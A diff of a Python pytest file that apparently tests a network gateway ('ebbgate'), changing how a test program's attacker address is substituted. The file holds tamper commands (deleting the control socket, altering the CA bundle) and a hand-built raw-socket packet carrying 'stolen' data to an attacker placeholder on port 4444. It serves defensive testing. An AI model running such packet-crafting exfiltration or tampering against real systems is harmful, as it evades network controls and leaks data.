@@ -139,21 +139,18 @@ SUDO = {
     "removing the control socket": ("rm /run/ebbgate/control.sock; sleep 2; ls -l /run/ebbgate", None),
     "changing the bundle": ("sh -c 'chmod u+w /run/ebbgate/ca-bundle.pem; echo x >>/run/ebbgate/ca-bundle.pem'; sleep 1.5", "was changed"),
 }  # fmt: skip
-FRAMES = (
-    """
+FRAMES = """
 import socket, struct, subprocess
 words = subprocess.run(["ip", "neigh", "get", "192.0.2.1", "dev", "eth0"], capture_output=True, text=True).stdout.split()
 mac = bytes.fromhex(words[words.index("lladdr") + 1].replace(":", ""))
 udp = struct.pack("!HHHH", 4000, 4444, 14, 0) + b"stolen"
-head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton("192.0.2.2"), socket.inet_aton("{EVIL}"))
+head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton("192.0.2.2"), socket.inet_aton("ATTACKER"))
 total = sum(struct.unpack("!10H", head))
 total = (total & 0xFFFF) + (total >> 16)
 head = head[:10] + struct.pack("!H", ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF) + head[12:]
 out = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
 out.sendto(head + udp, ("eth0", 0x0800, 0, 0, mac))
-"""
-    % EVIL
-)  # noqa: UP031 - the program has braces
+""".replace("ATTACKER", EVIL)
 
 
 @pytest.mark.parametrize("name", SUDO)
